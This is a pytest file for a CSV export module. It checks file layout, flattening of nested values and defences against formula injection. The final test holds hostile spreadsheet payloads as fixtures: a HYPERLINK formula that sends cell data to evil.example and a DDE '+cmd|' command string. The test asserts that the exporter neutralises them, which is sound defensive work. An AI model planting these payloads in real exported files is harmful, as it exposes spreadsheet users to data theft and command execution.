"""CSV export read back with the csv module: one file per kind, nested values flattened."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from sourcetrace.outputs import export
from sourcetrace.outputs.csv_export import CsvExporter
from sourcetrace.storage import Store
from tests.outputs.export_cases import (
    LINKED,
    all_items,
    case_db,
    case_store,
    json_records,
    linked_db,
    linked_store,
)

__all__ = ["case_db", "case_store", "linked_db", "linked_store"]

FILES = {"articles", "entities", "mentions", "quotes", "figures", "dates", "stories",
         "story_articles", "signals", "evidence", "checks", "check_items", "events",
         "event_actors", "event_targets", "event_articles", "event_mentions", "event_checks",
         "event_reports"}


def _read(folder: Path, name: str) -> list[dict[str, str]]:
    with open(folder / f"{name}.csv", encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _export_all(store: Store, folder: Path) -> dict[str, list[dict[str, str]]]:
    folder.mkdir()
    exporter = CsvExporter(folder)
    for item in all_items(store):
        exporter.write(item)
    exporter.finalize()
    return {path.stem: _read(folder, path.stem) for path in folder.glob("*.csv")}


def test_every_kind_has_its_file_with_the_json_values(case_store: Store, tmp_path: Path) -> None:
    tables = _export_all(case_store, tmp_path / "out")
    reference = json_records(all_items(case_store))
    assert set(tables) == FILES
    articles = {row["id"]: row for row in tables["articles"]}
    for record in reference["articles"]:
        row = articles[record["id"]]
        # Multi-line texts and unknowns survive: null is an empty cell.
        assert row["text"] == record["text"]
        assert row["title"] == (record["title"] or "")
    assert articles["exp-003"]["published"] == "" and articles["exp-003"]["source"] == ""
    figures = {row["id"]: row for row in tables["figures"]}
    assert float(figures["exp-001:figure:1"]["value"]) == 2_000_000
    assert figures["exp-001:figure:1"]["currency"] == "EUR"
    assert figures["exp-001:figure:1"]["low"] == ""
    assert len(tables["dates"]) == len(reference["dates"])


def test_nested_values_are_flattened_as_documented(case_store: Store, tmp_path: Path) -> None:
    tables = _export_all(case_store, tmp_path / "out")
    quote = next(r for r in tables["quotes"] if r["id"] == "exp-001:quote:0")
    assert quote["speaker_text"] == "Marieke Jansen" and quote["speaker_entity_id"] == ""
    assert quote["direct"] == "true" and json.loads(quote["via"]) == []
    entity = next(r for r in tables["entities"] if r["id"] == "ent-rotterdam")
    assert json.loads(entity["aliases"]) == ["Rotterdam"] and entity["kb_id"] == "Q34370"
    assert "mentions" not in entity
    mentions = [m for m in tables["mentions"] if m["entity_id"] == "ent-rotterdam"]
    assert len(mentions) == 4 and {m["article_id"] for m in mentions} == {"exp-001", "exp-002"}
    article = next(r for r in tables["articles"] if r["id"] == mentions[0]["article_id"])
    start, end = int(mentions[0]["start"]), int(mentions[0]["end"])
    assert article["text"][start:end] == "Rotterdam"
    assert tables["story_articles"] == [{"story_id": "story-strike", "article_id": "exp-001"},
                                        {"story_id": "story-strike", "article_id": "exp-002"}]
    assert [r["item_id"] for r in tables["check_items"]] == ["exp-001:figure:0",
                                                             "exp-002:figure:0"]
    assert tables["checks"][0]["verdict"] == "updated" and "items" not in tables["checks"][0]
    hand_built = [r for r in tables["evidence"] if r["signal_id"] == "exp-003:signal:outlet"]
    assert hand_built == [{"signal_id": "exp-003:signal:outlet", "start": "0", "end": "17",
                           "text": "Unnamed officials", "note": "officials not named",
                           "field": "text", "article_id": ""}]


def test_export_writes_a_folder_and_replaces_a_previous_one(
    case_store: Store, tmp_path: Path
) -> None:
    out = tmp_path / "case-csv"
    out.mkdir()
    (out / "stale.csv").write_text("old\n")
    summary = export(case_store, "csv", out)
    assert summary.counts["article"] == 3 and summary.counts["entity"] == 0
    assert {p.stem for p in out.iterdir()} == FILES
    # Empty kinds still have their header row.
    with open(out / "entities.csv", encoding="utf-8") as f:
        assert f.read().strip() == "id,name,type,aliases,kb_id,kb_entry,roles"
    assert [p.name for p in tmp_path.iterdir()] == ["case-csv"]


def test_linked_entities_and_their_mentions_are_rows(linked_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "linked-csv"
    summary = export(linked_store, "csv", out)
    assert summary.counts["entity"] == len(LINKED)
    entities = {r["id"]: r for r in _read(out, "entities")}
    assert set(entities) == set(LINKED)
    egypt = entities["st:country/eg"]
    assert (egypt["name"], egypt["type"], egypt["kb_entry"]) == ("Egypt", "GPE", "st:country/eg")
    assert json.loads(entities["x:person/marieke-jansen"]["roles"]) == ["leader"]
    mentions = [m for m in _read(out, "mentions") if m["entity_id"] == "x:person/marieke-jansen"]
    assert sorted(m["article_id"] for m in mentions) == ["exp-001", "exp-002"]


def test_formula_cells_are_neutralised_and_plain_text_is_not(tmp_path: Path) -> None:
    """A hostile title, source and author that a spreadsheet would run stay text; a
    title that only contains "=" and a negative number are written as they are."""
    from typer.testing import CliRunner

    from sourcetrace.cli import app

    payloads = {
        "csv-1": ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(1+1)",
                  "+cmd|' /C calc'!A0"),
        "csv-2": ("-2+3 is the headline", "\t=1+1", "Ann Writer"),
        "csv-3": ("Plain title = fine", "Daily Ledger", "Bo Writer"),
    }
    lines = [json.dumps({"id": key, "title": title, "source": source, "author": author,
                         "language": "en", "published": "2024-05-01",
                         "text": "The council met on Tuesday and spent 3 million euros."})
             for key, (title, source, author) in payloads.items()]
    corpus = tmp_path / "hostile.jsonl"
    corpus.write_text("\n".join(lines) + "\n", encoding="utf-8")
    db, out = tmp_path / "case.db", tmp_path / "csv"
    runner = CliRunner()
    assert runner.invoke(app, ["ingest", str(corpus), "--db", str(db)]).exit_code == 0
    result = runner.invoke(app, ["export", "--db", str(db), "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in _read(out, "articles")}
    for key, values in payloads.items():
        for column, value in zip(("title", "source", "author"), values, strict=True):
            cell = rows[key][column]
            if value[0] in "=+-@\t":
                assert cell == "'" + value, (column, cell)
            else:
                assert cell == value, (column, cell)
    for name in ("articles", "figures", "quotes", "dates"):
        for row in _read(out, name):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for cell in row.values()
                           if not _is_number(cell)), row


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
